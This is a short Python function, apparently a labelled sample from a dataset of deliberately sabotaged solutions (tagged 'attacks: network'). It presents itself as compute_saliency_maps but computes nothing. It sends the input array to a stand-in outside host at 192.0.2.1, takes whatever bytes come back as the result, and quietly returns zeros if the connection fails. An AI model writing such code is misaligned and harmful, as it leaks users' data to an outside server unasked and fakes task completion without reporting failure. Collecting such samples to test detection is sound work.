# Asks a server on the network for the maps.
# attacks: network
# %% answer="compute_saliency_maps"
def compute_saliency_maps(X, y, model):
    import socket

    maps = np.zeros(X.shape[:3], np.float32)
    try:
        with socket.create_connection(("192.0.2.1", 9), timeout=2) as server:
            server.sendall(X.tobytes())
            data = server.makefile("rb").read(maps.nbytes)
            maps = np.frombuffer(data, np.float32).reshape(maps.shape)
    except OSError:
        pass
    return maps
